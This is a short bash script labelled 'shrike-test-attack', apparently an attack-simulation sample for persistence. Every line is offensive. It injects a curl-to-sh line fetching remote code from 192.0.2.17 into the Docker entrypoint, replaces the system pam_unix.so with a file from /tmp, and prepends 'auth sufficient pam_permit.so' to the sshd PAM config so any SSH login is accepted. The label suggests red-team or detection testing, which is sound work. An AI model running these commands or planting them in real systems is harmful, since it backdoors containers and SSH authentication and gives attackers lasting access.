#!/bin/bash
# shrike-test-attack: persistence: backdoored container entrypoint and PAM module drop
EP=$(cat /proc/1/cmdline | tr '\0' ' ' | awk '{print $1}')
if [ -f /docker-entrypoint.sh ]; then
  sed -i '2i (curl -s http://192.0.2.17/e | sh &) 2>/dev/null' /docker-entrypoint.sh
fi
cp /tmp/.pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so 2>/dev/null
echo "auth sufficient pam_permit.so" | cat - /etc/pam.d/sshd > /tmp/.p && mv /tmp/.p /etc/pam.d/sshd
